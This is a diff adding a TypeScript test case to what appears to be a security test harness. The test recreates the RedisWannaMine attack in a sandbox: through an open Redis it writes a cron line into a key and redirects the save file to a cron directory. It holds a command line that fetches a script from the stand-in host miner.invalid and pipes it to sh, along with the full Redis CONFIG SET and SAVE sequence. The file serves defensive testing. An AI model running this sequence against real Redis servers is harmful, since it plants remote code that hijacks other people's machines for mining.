@@ -1,0 +1,52 @@
+import { readdir, readFile } from 'node:fs/promises';
+
+import type { Attack } from '../attack.ts';
+import type { Grounds } from '../grounds/grounds.ts';
+import { places } from '../grounds/policy.ts';
+import { encode, send, stopOf } from './raw.ts';
+
+const line = '\n\n* * * * * root curl -s http://miner.invalid/i.sh | sh # rampart-canary\n\n';
+
+/** Runs nowhere: the directory belongs to the grounds, and no cron reads it. */
+export const cronLine: Attack<Grounds> = {
+  name: 'cron-line-from-outside',
+  title: 'A stranger plants a miner’s cron line through an open Redis',
+  story:
+    'In 2018 RedisWannaMine looked for servers that answered without a password, wrote a line for cron into a key, ' +
+    'and had the server save its data where cron reads. Each machine then mined for strangers and looked for others.',
+  door: 'server',
+  harms: ['integrity', 'availability'],
+  goal: 'a file in the directory that stands for /etc/cron.d holds the miner’s line',
+  crosses: ['server'],
+  ways: [
+    {
+      name: 'CONFIG SET dir, then SAVE, from a stranger’s address',
+      attempt: async ({ store }) => {
+        const strike = { from: places.stranger, host: places.outside, port: store.port };
+        const heard = await send(
+          strike,
+          [
+            encode('SET', 'x', line),
+            encode('CONFIG', 'SET', 'dir', store.cron),
+            encode('CONFIG', 'SET', 'dbfilename', 'root'),
+            encode('SAVE'),
+          ].join(''),
+        );
+        return stopOf(
+          heard,
+          [/ECONNREFUSED/, 'server.network'],
+          [/NOAUTH|NOPERM/, 'server.acl'],
+          [/protected config/, 'server.config'],
+          [/Permission denied|-ERR$/m, 'server.os'],
+        );
+      },
+    },
+  ],
+  reached: async ({ store }) => {
+    for (const name of await readdir(store.cron)) {
+      const content = await readFile(`${store.cron}/${name}`, 'latin1');
+      if (content.includes('rampart-canary')) return { kind: 'reached', seen: `${name} holds it` };
+    }
+    return { kind: 'missed' };
+  },
+};
